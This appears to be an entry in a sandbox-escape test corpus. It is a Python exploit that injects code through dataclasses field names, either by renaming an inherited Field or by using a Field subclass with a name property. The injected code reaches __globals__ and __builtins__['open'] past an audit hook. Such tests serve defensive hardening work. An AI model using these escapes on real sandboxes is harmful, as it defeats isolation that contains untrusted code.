# technique: dataclasses pastes Field.name into the source it execs (trusted by the audit hook), and the runtime only checks the names of the class's own __annotations__: (1) an inherited field comes from the base's __dataclass_fields__ and Field.name is writable, so renaming a base's field (dataclasses.fields() hands out the Field objects) to 'a=EXPR,_return_type=None,**k):#' makes EXPR a default of the generated __create_fn__, run with no check of its code; (2) a Field subclass whose name is a property is accepted as a field's default object (dataclasses uses it as the field itself) and answers the injected text whenever dataclasses reads its name
# source: dataclasses code generation (exec of field names) + mutable / overridable Field objects

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import dataclasses, json

SINK = []


def code_for(expr):
    return 'a=SINK.append(' + expr + '),_return_type=None,**k):#'


def inherited(expr):
    @dataclasses.dataclass
    class Base:
        a: int = dataclasses.field(default=0, init=False, repr=False, compare=False)

    f = dataclasses.fields(Base)[0]
    f.name = code_for(expr)

    @dataclasses.dataclass(repr=False, eq=False)
    class Child(Base):
        pass
    return SINK.pop()


def lying_field(expr):
    text = code_for(expr)

    class LyingField(dataclasses.Field):
        def _get(self):
            return text

        def _set(self, value):
            pass
        name = property(_get, _set)

    @dataclasses.dataclass(repr=False, eq=False)
    class C:
        a: int = LyingField(0, dataclasses.MISSING, False, False, None, False, None, False)
    return SINK.pop()

attempt('inherited Field renamed: json.dumps.__globals__', lambda: inherited('json.dumps.' + dn('globals')))
attempt("inherited Field renamed: ...['__builtins__']['open']",
        lambda: inherited('json.dumps.' + dn('globals') + '[' + repr(dn('builtins')) + "]['open']"))
attempt('Field subclass with a name property: json.dumps.__globals__',
        lambda: lying_field('json.dumps.' + dn('globals')))
